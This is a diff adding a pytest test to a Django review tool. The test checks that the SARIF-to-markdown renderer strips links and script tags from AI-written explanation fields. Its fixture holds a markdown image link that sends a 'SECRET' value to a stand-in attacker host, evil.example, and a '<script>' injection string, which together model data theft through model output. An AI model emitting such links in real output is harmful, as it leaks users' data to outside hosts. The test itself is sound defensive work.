@@ -12,8 +12,10 @@ from djreview.ai.locate import NotLocated, locate
 from djreview.ai.redact import redact
 from djreview.ai.schema import REPLY_SCHEMA, InvalidReply, parse_reply
 from djreview.ai.settings import from_config
+from djreview.ai.show import markdown
 from djreview.config import ConfigError
 from djreview.fix.apply import apply_edits
+from djreview.model import Finding, Location, Severity
 
 
 @pytest.mark.parametrize(
@@ -96,3 +98,18 @@ def test_settings_from_the_table_and_environment(tmp_path: Path):
     assert from_config({}, {}).missing() is not None
     with pytest.raises(ConfigError, match="budget-tokens"):
         from_config({"budget-tokens": -1}, {})
+
+
+def test_sarif_markdown_keeps_the_text_of_model_links_only():
+    finding = Finding(
+        "DJR301", "mark-safe-on-variable", "m", Severity.WARNING, Location("a.py", 1),
+        properties=(
+            ("ai.confidence", "0.90"), ("ai.model", "m"), ("ai.prompt_version", "v"),
+            ("ai.reason", "see [docs](https://evil.example/?k=1)"),
+            ("ai.explanation", "![x](https://evil.example/p.png?s=SECRET) use <script>"),
+            ("ai.verdict", "true_positive"),
+        ),
+    )
+    text = markdown(finding)
+    assert "evil.example" not in text and "<script>" not in text
+    assert "see docs" in text and "`true_positive`, confidence 0.90" in text
